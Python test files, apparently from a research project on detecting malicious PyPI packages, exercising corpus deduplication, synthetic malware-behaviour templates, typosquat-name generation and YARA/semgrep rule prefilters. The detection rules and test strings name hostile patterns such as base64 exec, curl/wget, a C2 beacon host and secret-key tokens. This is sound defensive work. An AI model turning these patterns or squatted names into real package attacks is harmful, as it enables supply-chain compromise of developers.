        atomic_write_bytes(tmp_path / "f.bin", b"data", durable=False)
        assert calls == []
