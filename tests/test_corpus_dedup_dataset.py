"""Tests for deduplication and dataset assembly."""

from repro.corpus import DatasetConfig, build_dataset, deduplicate
from repro.corpus.dedup import duplicate_clusters, package_signature
from repro.corpus.package import Package, PackageFile, PackageMetadata


def make_pkg(name, payload, label="malware"):
    return Package(
        name=name,
        version="1.0",
        metadata=PackageMetadata(name=name, version="1.0"),
        files=[
            PackageFile("setup.py", f"setup(name='{name}')"),
            PackageFile("PKG-INFO", f"Name: {name}"),
            PackageFile(f"{name}/core.py", payload),
        ],
        label=label,
    )


def test_signature_ignores_identity_files():
    a = make_pkg("alpha", "print('payload')")
    b = make_pkg("beta", "print('payload')")
    assert package_signature(a) == package_signature(b)


def test_signature_sensitive_to_payload():
    a = make_pkg("alpha", "print('payload')")
    b = make_pkg("alpha", "print('other')")
    assert package_signature(a) != package_signature(b)


def test_deduplicate_keeps_first_occurrence():
    a = make_pkg("alpha", "x = 1")
    b = make_pkg("beta", "x = 1")
    c = make_pkg("gamma", "x = 2")
    result = deduplicate([a, b, c])
    assert [p.name for p in result.unique] == ["alpha", "gamma"]
    assert [p.name for p in result.duplicates] == ["beta"]
    assert result.total == 3
    assert 0.0 < result.dedup_ratio < 1.0


def test_deduplicate_idempotent():
    packages = [make_pkg(f"p{i}", f"x = {i % 3}") for i in range(9)]
    once = deduplicate(packages)
    twice = deduplicate(once.unique)
    assert len(twice.unique) == len(once.unique)
    assert not twice.duplicates


def test_duplicate_clusters_only_returns_groups():
    packages = [make_pkg("a", "same"), make_pkg("b", "same"), make_pkg("c", "different")]
    clusters = duplicate_clusters(packages)
    assert len(clusters) == 1
    assert len(clusters[0]) == 2


def test_build_dataset_small_structure():
    dataset = build_dataset(DatasetConfig.small())
    assert dataset.malware, "expected deduplicated malware"
    assert dataset.benign
    assert len(dataset.malware) < len(dataset.malware_raw)
    stats = dataset.statistics()
    assert stats.malware_total == len(dataset.malware_raw)
    assert stats.malware_unique == len(dataset.malware)
    assert stats.benign_avg_loc > 0


def test_dataset_statistics_rows_shape():
    dataset = build_dataset(DatasetConfig.small())
    rows = dataset.statistics().rows()
    assert [row[0] for row in rows] == ["Malware", "Legitimate"]
    assert all(len(row) == 4 for row in rows)


def test_dataset_scaling_controls_size():
    small = DatasetConfig.small()
    assert small.scaled_malware_count < DatasetConfig().scaled_malware_count


def test_dataset_families_grouping():
    dataset = build_dataset(DatasetConfig.small())
    families = dataset.families()
    assert sum(len(v) for v in families.values()) == len(dataset.malware)


def test_dataset_labels_mapping():
    dataset = build_dataset(DatasetConfig.small())
    labels = dataset.labels
    assert all(label in ("malware", "benign") for label in labels.values())
    assert len(labels) == len(dataset.packages)
