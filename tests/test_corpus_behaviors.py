"""Tests for the behaviour registry and templates."""

import ast

import pytest

from repro.categories import NUM_SUBCATEGORIES, SUBCATEGORIES, METADATA_RELATED
from repro.corpus.behaviors import default_registry
from repro.corpus.behaviors.base import Behavior
from repro.utils.seeding import DeterministicRandom


REGISTRY = default_registry()


def test_registry_is_non_trivial():
    assert len(REGISTRY) >= 30


def test_every_subcategory_has_at_least_one_behavior():
    covered = {behavior.subcategory for behavior in REGISTRY.all()}
    expected = {sub for subs in SUBCATEGORIES.values() for sub in subs}
    assert expected.issubset(covered), expected - covered


def test_behavior_keys_are_unique():
    keys = REGISTRY.keys()
    assert len(keys) == len(set(keys))


def test_duplicate_registration_rejected():
    behavior = REGISTRY.all()[0]
    with pytest.raises(ValueError):
        REGISTRY.register(behavior)


def test_behavior_requires_variants_or_metadata():
    with pytest.raises(ValueError):
        Behavior(key="empty", subcategory="C2 Communication", description="nothing")


def test_rendered_code_is_valid_python():
    rng = DeterministicRandom(5, "render")
    for behavior in REGISTRY.all():
        if not behavior.variants:
            continue
        rendered = behavior.render(rng.child(behavior.key))
        assert rendered.functions, behavior.key
        module_text = "\n".join(rendered.imports) + "\n\n" + rendered.code
        try:
            ast.parse(module_text)
        except SyntaxError as exc:  # pragma: no cover - assertion carries context
            pytest.fail(f"behavior {behavior.key} renders invalid python: {exc}\n{module_text}")


def test_fixed_variant_index_pins_template():
    rng = DeterministicRandom(6, "pin")
    behavior = next(b for b in REGISTRY.all() if len(b.variants) >= 2)
    a = behavior.render(rng.child("a"), variant_index=0)
    b = behavior.render(rng.child("b"), variant_index=0)
    # same template: same structure even though placeholders differ
    assert a.functions[0].split("(")[0].split()[0] == b.functions[0].split("(")[0].split()[0]


def test_metadata_behaviors_patch_metadata_only():
    rng = DeterministicRandom(7, "meta")
    for behavior in REGISTRY.by_category(METADATA_RELATED):
        rendered = behavior.render(rng.child(behavior.key))
        assert rendered.metadata_patch
        assert not rendered.functions


def test_setup_code_behaviors_provide_setup_snippets():
    rng = DeterministicRandom(8, "setup")
    setup_behaviors = REGISTRY.by_category("Setup Code")
    assert setup_behaviors
    snippets = [behavior.render(rng.child(behavior.key)).setup_snippet for behavior in setup_behaviors]
    assert any(snippets)


def test_by_subcategory_lookup():
    c2 = REGISTRY.by_subcategory("C2 Communication")
    assert c2 and all(b.subcategory == "C2 Communication" for b in c2)


def test_registry_covers_all_38_subcategories_exactly_once_each_at_minimum():
    covered = {behavior.subcategory for behavior in REGISTRY.all()}
    assert len(covered) == NUM_SUBCATEGORIES
