"""Tests for the shared taxonomy vocabulary (repro.categories)."""

import pytest

from repro.categories import (
    CATEGORIES,
    NUM_CATEGORIES,
    NUM_SUBCATEGORIES,
    PAPER_TABLE_XII_COUNTS,
    SUBCATEGORIES,
    TaxonomyLabel,
    all_subcategories,
    category_of,
)


def test_eleven_categories_and_thirty_eight_subcategories():
    assert NUM_CATEGORIES == 11
    assert NUM_SUBCATEGORIES == 38


def test_every_category_has_subcategories():
    for category in CATEGORIES:
        assert SUBCATEGORIES[category]


def test_paper_counts_cover_every_subcategory():
    for category, subs in SUBCATEGORIES.items():
        for subcategory in subs:
            assert subcategory in PAPER_TABLE_XII_COUNTS[category]


def test_paper_table_total_is_1217():
    total = sum(count for subs in PAPER_TABLE_XII_COUNTS.values() for count in subs.values())
    assert total == 1217


def test_category_of_round_trips():
    for category, subs in SUBCATEGORIES.items():
        for subcategory in subs:
            assert category_of(subcategory) == category


def test_category_of_unknown_raises():
    with pytest.raises(KeyError):
        category_of("Not A Real Subcategory")


def test_taxonomy_label_validation():
    label = TaxonomyLabel("Network Related", "C2 Communication")
    assert label.category_index == CATEGORIES.index("Network Related")
    with pytest.raises(ValueError):
        TaxonomyLabel("Network Related", "Credential Theft")
    with pytest.raises(ValueError):
        TaxonomyLabel("Nonexistent", "C2 Communication")


def test_all_subcategories_enumerates_38_unique_labels():
    labels = all_subcategories()
    assert len(labels) == 38
    assert len({(l.category, l.subcategory) for l in labels}) == 38
