"""Packed automaton parity: the flat-table hot path vs both reference lanes.

The contract the packed tables must honour is exact: for every vocabulary
and every haystack, ``PackedAutomaton.find`` equals the dict-trie
``AhoCorasick.find_automaton`` equals the per-atom substring lane — and the
batch lane equals mapping ``find`` over the batch.  Serialization
(``to_bytes``/``from_bytes`` and pickle) must restore tables that produce
identical hit sets and stats without re-running construction.
"""

import pickle

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.scanserve import AhoCorasick, PackedAutomaton, RuleIndex
from repro.scanserve.packed import GUARD_PREFIX_LENGTH
from repro.scanserve.registry import RulesetRegistry, RulesetVersion
from repro.yarax import compile_source

_slow = settings(
    max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None
)

# alphabets chosen to force overlapping atoms, shared prefixes/suffixes, and
# casefold length changes (ß -> ss, ﬅ -> st); words and haystacks draw from
# the same pool so matches are common, not vanishingly rare
_CHARS = "abßcﬅ𝕏日_"
_words = st.lists(
    st.text(alphabet=_CHARS, min_size=1, max_size=6), min_size=1, max_size=12
)
_haystack = st.text(alphabet=_CHARS, max_size=64)


def _reference(words, text):
    """Oracle: per-word Python substring check."""
    return {i for i, w in enumerate(dict.fromkeys(words)) if w in text}


# -- single-text parity -------------------------------------------------------------


class TestFindParity:
    @_slow
    @given(_words, _haystack)
    def test_packed_equals_dict_equals_substring(self, words, text):
        auto = AhoCorasick(words)
        expected = auto.find_substring(text)
        assert auto.find_automaton(text) == expected
        assert auto.packed.find(text) == expected
        assert expected == _reference(words, text)

    @_slow
    @given(_words, _haystack)
    def test_sparse_layout_matches_dense(self, words, text):
        dense = PackedAutomaton(words)
        # a zero cell budget forces the base/check layout
        sparse = PackedAutomaton(words, dense_cell_budget=0)
        assert dense.mode == "dense" and sparse.mode == "sparse"
        assert dense.find(text) == sparse.find(text)

    def test_empty_text(self):
        auto = PackedAutomaton(["abc"])
        assert auto.find("") == set()

    def test_empty_vocabulary(self):
        auto = PackedAutomaton([])
        assert auto.find("anything") == set()
        assert auto.find_batch(["a", "b"]) == [set(), set()]

    def test_empty_word_rejected(self):
        with pytest.raises(ValueError):
            PackedAutomaton(["ok", ""])

    def test_overlapping_and_suffix_atoms(self):
        words = ["he", "she", "his", "hers", "ers", "s"]
        auto = PackedAutomaton(words)
        assert auto.find("ushers") == {
            words.index("he"),
            words.index("she"),
            words.index("hers"),
            words.index("ers"),
            words.index("s"),
        }

    def test_word_is_prefix_of_other(self):
        auto = PackedAutomaton(["base", "base64", "base64decode"])
        assert auto.find("xx base64 yy") == {0, 1}
        assert auto.find("base64decode()") == {0, 1, 2}

    def test_duplicate_words_deduplicate(self):
        auto = PackedAutomaton(["dup", "dup", "other"])
        assert len(auto) == 2
        assert auto.find("dup") == {0}

    def test_casefold_length_change_fold_then_encode(self):
        # "STRASSE".casefold() == "strasse"; the atom is indexed folded and
        # the caller folds before matching — byte offsets never map back
        atom = "straße".casefold()  # "strasse"
        auto = PackedAutomaton([atom])
        assert auto.find("the STRASSE sign".casefold()) == {0}

    def test_accepts_prefolded_bytes(self):
        auto = PackedAutomaton(["evil"])
        assert auto.find(b"import evil") == {0}
        assert auto.find("import evil".encode("utf-8")) == {0}

    def test_non_bmp_and_multibyte_no_mid_character_match(self):
        # UTF-8 self-synchronization: the bytes of "日" never appear inside
        # the encoding of a different character sequence
        auto = PackedAutomaton(["日"])
        assert auto.find("𝕏𝕏𝕏") == set()
        assert auto.find("x日x") == {0}


# -- batch parity -------------------------------------------------------------------


class TestBatchParity:
    @_slow
    @given(_words, st.lists(_haystack, max_size=8))
    def test_find_batch_equals_mapped_find(self, words, texts):
        auto = PackedAutomaton(words)
        assert auto.find_batch(texts) == [auto.find(t) for t in texts]

    @_slow
    @given(_words, st.lists(_haystack, min_size=2, max_size=8))
    def test_joined_lane_matches_walk_lane(self, words, texts):
        joined = PackedAutomaton(words)  # small vocab -> joined guard lane
        walk = PackedAutomaton(words, batch_guard_limit=0)  # force DFA walk
        assert joined.find_batch(texts) == walk.find_batch(texts)

    def test_empty_batch(self):
        assert PackedAutomaton(["a"]).find_batch([]) == []

    def test_batch_with_empty_texts(self):
        auto = PackedAutomaton(["ab"])
        assert auto.find_batch(["", "ab", ""]) == [set(), {0}, set()]

    def test_match_never_crosses_texts(self):
        auto = PackedAutomaton(["abcd"])
        # "ab" + "cd" adjacent in the joined buffer must not fire
        assert auto.find_batch(["ab", "cd"]) == [set(), set()]

    def test_long_words_verified_per_occurrence(self):
        # guard prefix shared by many members, only some of which occur
        long_a = "registry_" + "a" * GUARD_PREFIX_LENGTH
        long_b = "registry_" + "b" * GUARD_PREFIX_LENGTH
        auto = PackedAutomaton([long_a, long_b, "registry"])
        texts = [f"x {long_a} registry y", "no hits", f"registry {long_b}"]
        assert auto.find_batch(texts) == [{0, 2}, set(), {1, 2}]

    def test_repeated_guard_occurrences(self):
        word = "prefix__long_tail"
        auto = PackedAutomaton([word, "prefix__"])
        text = "prefix__x prefix__y " + word
        assert auto.find_batch([text, text]) == [{0, 1}, {0, 1}]

    def test_ahocorasick_find_batch_delegates(self):
        auto = AhoCorasick(["one", "two"])
        assert auto.find_batch(["one and two", "zzz"]) == [{0, 1}, set()]


# -- serialization ------------------------------------------------------------------


def _same_tables(a: PackedAutomaton, b: PackedAutomaton) -> None:
    assert a.words == b.words
    assert a.mode == b.mode
    assert a.state_count == b.state_count
    assert a.alphabet_size == b.alphabet_size
    assert a.guard_count == b.guard_count
    assert a.memory_bytes == b.memory_bytes


class TestSerialization:
    @_slow
    @given(_words, _haystack)
    def test_to_bytes_round_trip(self, words, text):
        auto = PackedAutomaton(words)
        restored = PackedAutomaton.from_bytes(auto.to_bytes())
        _same_tables(auto, restored)
        assert restored.find(text) == auto.find(text)

    @_slow
    @given(_words, _haystack)
    def test_pickle_round_trip(self, words, text):
        auto = PackedAutomaton(words)
        restored = pickle.loads(pickle.dumps(auto))
        _same_tables(auto, restored)
        assert restored.find(text) == auto.find(text)

    def test_sparse_round_trip(self):
        auto = PackedAutomaton(["alpha", "beta", "betamax"], dense_cell_budget=0)
        assert auto.mode == "sparse"
        restored = PackedAutomaton.from_bytes(auto.to_bytes())
        _same_tables(auto, restored)
        assert restored.find("betamax alpha") == auto.find("betamax alpha")

    def test_from_bytes_rejects_garbage(self):
        with pytest.raises(ValueError):
            PackedAutomaton.from_bytes(b"not a blob")
        with pytest.raises(ValueError):
            PackedAutomaton.from_bytes(b"PKAC" + b"\x00" * 10)

    def test_round_trip_preserves_batch_lane(self):
        auto = PackedAutomaton(["aa", "bb"], batch_guard_limit=7)
        restored = pickle.loads(pickle.dumps(auto))
        assert restored.batch_guard_limit == 7
        assert restored.find_batch(["aa x", "y bb"]) == [{0}, {1}]

    def test_ahocorasick_pickles_without_dict_trie(self):
        auto = AhoCorasick(["needle", "pin"])
        auto.find_automaton("needle")  # materialise the reference trie
        restored = pickle.loads(pickle.dumps(auto))
        assert restored._trie is None  # derived state is dropped, not shipped
        assert restored.find("a needle") == {0}
        assert restored.find_automaton("a needle") == {0}  # rebuilt on demand


# -- whole-index / registry round trips ---------------------------------------------

_RULES = """
rule uses_exec {
    strings:
        $a = "exec(base64"
        $b = "compile(" nocase
    condition:
        any of them
}

rule c2_beacon {
    strings:
        $a = /https?:..evil[0-9]+\\.example/
        $b = "beacon_interval"
    condition:
        all of them
}

rule strasse_family {
    strings:
        $a = "straße" nocase
    condition:
        $a
}
"""

_HAYSTACKS = [
    "import base64; exec(base64.b64decode(x))",
    "url = 'https://evil42.example'; beacon_interval = 30",
    "harmless package with a STRASSE address",
    "",
]


class TestIndexRoundTrips:
    def _index(self) -> RuleIndex:
        return RuleIndex(yara=compile_source(_RULES))

    def test_rule_index_pickle_identical_hits_and_stats(self):
        index = self._index()
        restored = pickle.loads(pickle.dumps(index))
        for text in _HAYSTACKS:
            folded = text.casefold()
            assert restored.hits(folded) == index.hits(folded)
            assert restored.yara_rule_names(text) == index.yara_rule_names(text)
        assert restored.stats() == index.stats()

    def test_rule_index_batch_parity_after_pickle(self):
        index = self._index()
        restored = pickle.loads(pickle.dumps(index))
        folded = [t.casefold() for t in _HAYSTACKS]
        assert restored.hits_batch(folded) == index.hits_batch(folded)

    def test_ruleset_version_to_bytes_round_trip(self):
        registry = RulesetRegistry()
        version = registry.publish(yara=compile_source(_RULES), label="pub")
        restored = RulesetVersion.from_bytes(version.to_bytes())
        assert restored.version == version.version
        assert restored.index.stats() == version.index.stats()
        for text in _HAYSTACKS:
            assert restored.index.yara_rule_names(text) == (
                version.index.yara_rule_names(text)
            )

    def test_ruleset_version_from_bytes_rejects_garbage(self):
        with pytest.raises(ValueError):
            RulesetVersion.from_bytes(b"junk")

    def test_registry_to_bytes_round_trip(self):
        registry = RulesetRegistry(namespace="tenant-a")
        registry.publish(yara=compile_source(_RULES), label="v1")
        v2 = registry.publish(yara=compile_source(_RULES), label="v2")
        restored = RulesetRegistry.from_bytes(registry.to_bytes())
        assert restored.namespace == "tenant-a"
        current = restored.current()
        assert current.version == v2.version
        assert current.index.stats() == v2.index.stats()
        for text in _HAYSTACKS:
            assert current.index.yara_rule_names(text) == (
                v2.index.yara_rule_names(text)
            )

    def test_registry_from_bytes_rejects_garbage(self):
        with pytest.raises(ValueError):
            RulesetRegistry.from_bytes(b"RSV1 nope")

    def test_stats_report_packed_tables(self):
        stats = self._index().stats()
        assert stats.packed_mode in ("dense", "sparse")
        assert stats.packed_memory_bytes > 0
        assert stats.batch_guards > 0
