"""Tests for typosquatting name generation (repro.corpus.naming)."""

from repro.corpus.naming import (
    POPULAR_PACKAGES,
    is_similar_to_popular,
    random_project_name,
    squat_popular,
    typosquat,
)
from repro.utils.seeding import DeterministicRandom


def test_typosquat_differs_from_target():
    rng = DeterministicRandom(1, "squat")
    for target in ("requests", "numpy", "flask", "cryptography"):
        assert typosquat(target, rng) != target


def test_typosquat_deterministic_per_stream():
    assert typosquat("requests", DeterministicRandom(1, "s")) == typosquat("requests", DeterministicRandom(1, "s"))


def test_squat_popular_returns_known_target():
    squatted, target = squat_popular(DeterministicRandom(3, "sq"))
    assert target in POPULAR_PACKAGES
    assert squatted != target


def test_exact_popular_name_is_not_flagged():
    assert not is_similar_to_popular("requests")
    assert not is_similar_to_popular("numpy")


def test_classic_typos_are_flagged():
    assert is_similar_to_popular("reqests")       # dropped character
    assert is_similar_to_popular("requestss")     # doubled character
    assert is_similar_to_popular("request5")      # substitution within distance 2


def test_unrelated_names_are_not_flagged():
    assert not is_similar_to_popular("totally-unrelated-project-xyz")


def test_generated_squats_are_usually_flagged():
    rng = DeterministicRandom(11, "flag")
    flagged = 0
    for _ in range(60):
        squatted, _target = squat_popular(rng)
        flagged += is_similar_to_popular(squatted)
    assert flagged >= 40


def test_random_project_name_is_plausible_identifier_material():
    rng = DeterministicRandom(2, "names")
    name = random_project_name(rng)
    assert name and name.isascii()
    assert " " not in name
