"""Atom extraction and the prefilter index: unit tests plus corpus parity."""

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.scanserve import (
    AhoCorasick,
    RuleIndex,
    guaranteed_identifiers,
    semgrep_rule_atoms,
    yara_rule_atoms,
)
from repro.semgrepx import compile_yaml
from repro.yarax import compile_source
from repro.yarax.matcher import required_literal_runs

_slow = settings(max_examples=50, suppress_health_check=[HealthCheck.too_slow], deadline=None)


def _compile_one(source: str):
    return compile_source(source).rules[0]


# -- required_literal_runs ----------------------------------------------------------


class TestRequiredLiteralRuns:
    def test_plain_literal(self):
        assert required_literal_runs("subprocess") == ["subprocess"]

    def test_escaped_literals_are_decoded(self):
        assert required_literal_runs(r"os\.system") == ["os.system"]

    def test_alternation_defeats_the_guarantee(self):
        assert required_literal_runs("curl|wget") == []

    def test_optional_char_splits_the_run(self):
        assert required_literal_runs("abc?def") == ["ab", "def"]

    def test_star_and_class_break_runs(self):
        assert required_literal_runs(r"eval\s*\(base64") == ["eval", "(base64"]
        assert required_literal_runs("foo[abc]bar") == ["foo", "bar"]

    def test_plus_keeps_first_occurrence(self):
        assert required_literal_runs("ab+c") == ["ab", "c"]

    def test_counted_repetition(self):
        assert required_literal_runs("ab{2,3}c") == ["ab", "c"]
        assert required_literal_runs("ab{0,3}c") == ["a", "c"]

    def test_group_contents_are_not_required(self):
        assert required_literal_runs("(foo)?bar") == ["bar"]
        assert required_literal_runs(r"(?:https?://)host") == ["host"]

    def test_only_wildcards_gives_nothing(self):
        assert required_literal_runs(r"\w+\d*") == []

    def test_hex_escape(self):
        assert required_literal_runs(r"\x41\x42\x43") == ["ABC"]

    def test_nongreedy_quantifiers(self):
        assert required_literal_runs("ab*?cd") == ["a", "cd"]


# -- CompiledString.atoms -----------------------------------------------------------


class TestCompiledStringAtoms:
    def test_text_string_atom_is_its_value(self):
        rule = _compile_one(
            'rule r { strings: $a = "subprocess.Popen" condition: $a }'
        )
        assert rule.strings[0].atoms() == ("subprocess.Popen",)

    def test_nocase_string_is_flagged_case_insensitive(self):
        rule = _compile_one('rule r { strings: $a = "EvAl" nocase condition: $a }')
        assert rule.strings[0].case_insensitive
        assert rule.strings[0].atoms() == ("EvAl",)

    def test_fullword_keeps_the_literal(self):
        rule = _compile_one('rule r { strings: $a = "token" fullword condition: $a }')
        assert rule.strings[0].atoms() == ("token",)

    def test_wide_string_has_no_usable_atom(self):
        rule = _compile_one('rule r { strings: $a = "secret" wide condition: $a }')
        assert rule.strings[0].atoms() == ()

    def test_regex_string_literal_extraction(self):
        rule = _compile_one(
            r'rule r { strings: $a = /requests\.get\(.{0,40}token/ condition: $a }'
        )
        atoms = rule.strings[0].atoms()
        assert "requests.get(" in atoms
        assert "token" in atoms

    def test_hex_string_atoms(self):
        rule = _compile_one("rule r { strings: $a = { 41 42 43 ?? 44 } condition: $a }")
        assert rule.strings[0].atoms() == ("ABC",)

    def test_min_length_filters_short_runs(self):
        rule = _compile_one('rule r { strings: $a = "ab" condition: $a }')
        assert rule.strings[0].atoms(min_length=3) == ()
        assert rule.strings[0].atoms(min_length=2) == ("ab",)


# -- guaranteed_identifiers ---------------------------------------------------------


class TestGuaranteedIdentifiers:
    def _guaranteed(self, source: str):
        rule = _compile_one(source)
        return guaranteed_identifiers(
            rule.ast.condition, [cs.identifier for cs in rule.strings]
        )

    def test_single_reference(self):
        got = self._guaranteed('rule r { strings: $a = "xxx" condition: $a }')
        assert got == {"$a"}

    def test_or_needs_every_branch(self):
        got = self._guaranteed(
            'rule r { strings: $a = "xxx" $b = "yyy" condition: $a or $b }'
        )
        assert got == {"$a", "$b"}

    def test_and_needs_any_branch(self):
        got = self._guaranteed(
            'rule r { strings: $a = "xxx" $b = "yyy" condition: $a and $b }'
        )
        assert got in ({"$a"}, {"$b"})

    def test_any_of_them(self):
        got = self._guaranteed(
            'rule r { strings: $a = "xxx" $b = "yyy" condition: any of them }'
        )
        assert got == {"$a", "$b"}

    def test_wildcard_of_set(self):
        got = self._guaranteed(
            'rule r { strings: $net1 = "xxx" $net2 = "yyy" condition: any of ($net*) }'
        )
        assert got == {"$net1", "$net2"}

    def test_count_comparison(self):
        got = self._guaranteed('rule r { strings: $a = "xxx" condition: #a > 2 }')
        assert got == {"$a"}

    def test_negation_gives_no_guarantee(self):
        got = self._guaranteed(
            'rule r { strings: $a = "xxx" $b = "yyy" condition: $a or not $b }'
        )
        assert got is None

    def test_filesize_only_condition(self):
        rule = _compile_one("rule r { condition: filesize > 10 }")
        assert guaranteed_identifiers(rule.ast.condition, []) is None


# -- rule-level atoms ---------------------------------------------------------------


class TestRuleAtoms:
    def test_indexable_yara_rule(self):
        rule = _compile_one(
            'rule r { strings: $a = "base64.b64decode" $b = "exec(" '
            "condition: any of them }"
        )
        atoms = yara_rule_atoms(rule)
        assert atoms.indexable
        assert set(atoms.atoms) == {"base64.b64decode", "exec("}

    def test_atoms_are_lowercased(self):
        rule = _compile_one('rule r { strings: $a = "PowerShell" condition: $a }')
        assert yara_rule_atoms(rule).atoms == ("powershell",)

    def test_condition_without_string_guarantee_falls_back(self):
        rule = _compile_one(
            'rule r { strings: $a = "xxxx" condition: $a or filesize > 100 }'
        )
        atoms = yara_rule_atoms(rule)
        assert not atoms.indexable
        assert "without any string match" in atoms.reason

    def test_string_without_literal_falls_back(self):
        rule = _compile_one(r"rule r { strings: $a = /\w+\d+/ condition: $a }")
        atoms = yara_rule_atoms(rule)
        assert not atoms.indexable
        assert "$a" in atoms.reason

    def test_semgrep_anchor_rule(self):
        ruleset = compile_yaml(
            """
rules:
  - id: osd
    languages: [python]
    message: os.system call
    severity: WARNING
    pattern: os.system($CMD)
"""
        )
        atoms = semgrep_rule_atoms(ruleset.rules[0])
        assert atoms.indexable
        assert "system" in atoms.atoms

    def test_semgrep_regex_only_rule(self):
        ruleset = compile_yaml(
            """
rules:
  - id: rx
    languages: [python]
    message: suspicious token
    severity: WARNING
    pattern-regex: "secret_[a-z]+_key"
"""
        )
        atoms = semgrep_rule_atoms(ruleset.rules[0])
        assert atoms.indexable
        assert atoms.atoms == ("secret_",)

    def test_semgrep_metavariable_only_pattern_falls_back(self):
        ruleset = compile_yaml(
            """
rules:
  - id: mv
    languages: [python]
    message: any call
    severity: WARNING
    pattern: $F($X)
"""
        )
        atoms = semgrep_rule_atoms(ruleset.rules[0])
        assert not atoms.indexable


# -- semgrep required anchor sets (all-of semantics) --------------------------------


def _semgrep_rule(rule_id: str, body: str):
    return compile_yaml(
        f"""
rules:
  - id: {rule_id}
    languages: [python]
    message: test rule
    severity: WARNING
{body}
"""
    ).rules[0]


class TestSemgrepRequiredAnchorSets:
    def test_single_pattern_requires_all_anchors(self):
        rule = _semgrep_rule("osd", "    pattern: os.system($CMD)")
        atoms = semgrep_rule_atoms(rule)
        assert atoms.indexable
        assert atoms.required_sets == (("os", "system"),)
        # one representative atom per set (the most selective literal)
        assert atoms.atoms == ("system",)

    def test_either_alternatives_form_separate_sets(self):
        rule = _semgrep_rule(
            "either",
            "    pattern-either:\n"
            "      - pattern: subprocess.run($X)\n"
            "      - pattern: os.popen($X)\n",
        )
        atoms = semgrep_rule_atoms(rule)
        assert atoms.indexable
        assert set(atoms.required_sets) == {("run", "subprocess"), ("os", "popen")}

    def test_patterns_conjunction_unions_anchors(self):
        rule = _semgrep_rule(
            "conj",
            "    patterns:\n"
            "      - pattern: marshal.loads($X)\n"
            "      - pattern: socket.socket(...)\n",
        )
        atoms = semgrep_rule_atoms(rule)
        assert atoms.indexable
        assert atoms.required_sets == (("loads", "marshal", "socket"),)

    def test_regex_runs_join_the_required_sets(self):
        rule = _semgrep_rule(
            "mixed",
            "    pattern: os.system($CMD)\n"
            '    pattern-regex: "secret_[a-z]+_key"\n',
        )
        atoms = semgrep_rule_atoms(rule)
        assert atoms.indexable
        assert ("os", "system") in atoms.required_sets
        assert ("_key", "secret_") in atoms.required_sets

    def test_anchorless_alternative_disables_indexing(self):
        rule = _semgrep_rule(
            "mv",
            "    pattern-either:\n"
            "      - pattern: os.system($CMD)\n"
            "      - pattern: $F($X)\n",  # matches any call: no prefilter
        )
        atoms = semgrep_rule_atoms(rule)
        assert not atoms.indexable

    def test_all_of_gate_skips_partial_anchor_presence(self):
        """A file containing only *some* anchors of a pattern is skipped —
        the upgrade over the old any-anchor prefilter."""
        from repro.semgrepx import ScanTarget

        rule = _semgrep_rule("osd", "    pattern: os.system($CMD)")
        index = RuleIndex(semgrep=_wrap_rules([rule]))
        # 'system' present but 'os' absent: candidacy fires, the gate kills it
        partial = ScanTarget.from_files("partial", [("a.py", "my_system = 1\n")])
        assert index.candidate_semgrep_rules(partial) == []
        assert index.match_semgrep(partial) == []
        # both anchors present: the rule is evaluated (and fires)
        full = ScanTarget.from_files("full", [("a.py", "import os\nos.system('x')\n")])
        assert [r.id for r in index.candidate_semgrep_rules(full)] == ["osd"]
        assert [f.rule_id for f in index.match_semgrep(full)] == ["osd"]

    def test_string_anchors_never_join_the_all_of_gate(self):
        """A string constant can be escape-spelled in matching source
        (``"\\x65vil..."``), so it must not be a required all-of member."""
        from repro.semgrepx import ScanTarget

        rule = _semgrep_rule("strc", '    pattern: foo("evilpayload")')
        assert rule.anchors == {"foo", "evilpayload"}
        atoms = semgrep_rule_atoms(rule)
        assert atoms.indexable
        assert atoms.required_sets == (("foo",),)  # identifiers only
        index = RuleIndex(semgrep=_wrap_rules([rule]))
        escaped = ScanTarget.from_files(
            "escaped", [("a.py", 'foo("\\x65vilpayload")\n')]
        )
        naive = _wrap_rules([rule]).match_target(escaped)
        assert [f.rule_id for f in naive] == ["strc"]
        assert index.match_semgrep(escaped) == naive  # parity preserved

    def test_string_only_pattern_degrades_to_any_of(self):
        """A mode with no identifier anchors falls back to the matcher's
        own any-of anchor semantics instead of an unsound all-of gate."""
        rule = _semgrep_rule("stronly", '    pattern: "\\"evilpayload\\""')
        atoms = semgrep_rule_atoms(rule)
        if rule.anchors:
            assert atoms.indexable
            assert all(len(s) == 1 for s in atoms.required_sets)
        else:
            assert not atoms.indexable

    def test_gate_parity_with_naive_matching(self):
        from repro.semgrepx import ScanTarget

        rules = _wrap_rules(
            [
                _semgrep_rule("osd", "    pattern: os.system($CMD)"),
                _semgrep_rule(
                    "either",
                    "    pattern-either:\n"
                    "      - pattern: subprocess.run($X)\n"
                    "      - pattern: os.popen($X)\n",
                ),
                _semgrep_rule("rx", '    pattern-regex: "secret_[a-z]+_key"'),
            ]
        )
        index = RuleIndex(semgrep=rules)
        sources = [
            "import os\nos.system('x')\n",
            "import subprocess\nsubprocess.run(['ls'])\n",
            "os.popen('whoami')\n",
            "token = 'secret_api_key'\n",
            "my_system = 1\nrun = 2\n",  # partial anchors only
            "print('clean')\n",
        ]
        for i, source in enumerate(sources):
            target = ScanTarget.from_files(f"t{i}", [("a.py", source)])
            assert rules.match_target(target) == index.match_semgrep(target)


def _wrap_rules(rules):
    from repro.semgrepx.compiler import CompiledSemgrepRuleSet

    return CompiledSemgrepRuleSet(rules=list(rules))


# -- Aho–Corasick -------------------------------------------------------------------


class TestAhoCorasick:
    def test_overlapping_and_suffix_hits(self):
        automaton = AhoCorasick(["he", "she", "his", "hers"])
        hits = {automaton.words[i] for i in automaton.find_automaton("ushers")}
        assert hits == {"she", "he", "hers"}

    def test_duplicate_words_are_merged(self):
        automaton = AhoCorasick(["abc", "abc"])
        assert len(automaton) == 1

    def test_no_hits(self):
        automaton = AhoCorasick(["abc"])
        assert automaton.find("zzzzzz") == set()

    @_slow
    @given(
        st.lists(
            st.text(alphabet="abcd", min_size=1, max_size=5), min_size=1, max_size=12
        ),
        st.text(alphabet="abcd", max_size=120),
    )
    def test_automaton_matches_substring_scan(self, words, text):
        automaton = AhoCorasick(words)
        assert automaton.find_automaton(text) == automaton.find_substring(text)


# -- index parity -------------------------------------------------------------------


class TestRuleIndexParity:
    def test_candidates_are_a_superset_of_matches(self, compiled_yara, small_dataset):
        index = RuleIndex(yara=compiled_yara)
        for package in small_dataset.packages:
            text = package.all_text
